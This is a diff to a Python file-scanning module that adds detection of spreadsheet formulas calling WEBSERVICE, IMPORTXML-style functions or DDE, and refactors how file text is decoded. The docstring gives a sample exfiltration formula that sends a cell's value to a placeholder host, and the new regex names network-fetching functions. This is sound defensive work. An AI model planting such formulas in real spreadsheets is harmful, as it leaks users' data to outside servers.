@@ -8,6 +8,7 @@ from __future__ import annotations
 
 import codecs
 import re
+from itertools import islice
 
 _CONTROL = re.compile(rb"[\x00-\x08\x0e-\x1f\x7f]")
 _CONTROL_WIDE = re.compile("[\x00-\x08\x0e-\x1f\x7f\ufffe\uffff]")
@@ -57,6 +58,11 @@ _MOST_HEADERS = 32 * 1024  # characters
 # A sheet in the format SYLK, which Excel opens under any name: its first record, and one of those that may follow.
 _SYLK, _SYLK_RECORD = re.compile(r"ID;P"), re.compile(r"^(?:O;|NN;|C;[XYKER]\S|B;[XY]\d|F;\S*;)", re.MULTILINE)
 _DDE_CELL = re.compile(r"""(?:^|[;,\t"])\s?[=+@-][^;,\t\r\n|"]{0,100}[\w.]'?\|[^|\r\n!]{0,500}!['\w]""", re.MULTILINE)
+# Functions of spreadsheets that ask another server or program, also by their German and French names.
+_FETCH = re.compile(r"\b(?:WEBSERVICE|WEBDIENST|SERVICEWEB|IMPORT(?:XML|HTML|DATA|FEED|RANGE)|DDE)\s*\(", re.IGNORECASE)
+_FORMULA = re.compile(r"""(?:^|[;,\t"])\s?[=+@-]""")  # the beginning of a formula in a line
+_LONGEST_FORMULA = 300  # characters before the function
+_MOST_FETCHES = 1_000  # functions that are looked at
 _HOST = re.compile(r"wscript\.(shell|createobject)|createobject\(\s*[\"']|new\s+activexobject", re.IGNORECASE)
 _STATEMENT = re.compile(r"[;{}()=]\s*$|^\s*(set|dim|var|let|const|function|sub|if|end)\b", re.IGNORECASE)
 _PAGE_ENDINGS = (".html", ".htm", ".xhtml", ".xht", ".shtml", ".mht", ".mhtml", ".svg", ".hta")
@@ -120,8 +126,27 @@ def asks_another_program(text: str, content: bytes) -> bool:
         text: The text, or its beginning.
         content: The whole file.
     """
+    return bool(_DDE_CELL.search(_whole(text, content)))
+
+
+def asks_another_server(text: str, content: bytes) -> bool:
+    """Return whether a cell of this table is a formula that sends what the table has: `=WEBSERVICE("https://x/"&A1)`.
+
+    Args:
+        text: The text, or its beginning.
+        content: The whole file.
+    """
+    table = _whole(text, content)
+    for found in islice(_FETCH.finditer(table), _MOST_FETCHES):
+        before = table[max(0, found.start() - _LONGEST_FORMULA) : found.start()]
+        if _FORMULA.search(before[max(before.rfind("\n"), before.rfind("\r")) + 1 :]):
+            return True
+    return False
+
+
+def _whole(text: str, content: bytes) -> str:
     wide = any(content.startswith(mark) for mark, _ in _MARKS)
-    return bool(_DDE_CELL.search(text if wide else content.decode("latin-1")))
+    return text if wide else content.decode("latin-1")
 
 
 def _recognised_markup(text: str, first: str, name: str) -> str | None:
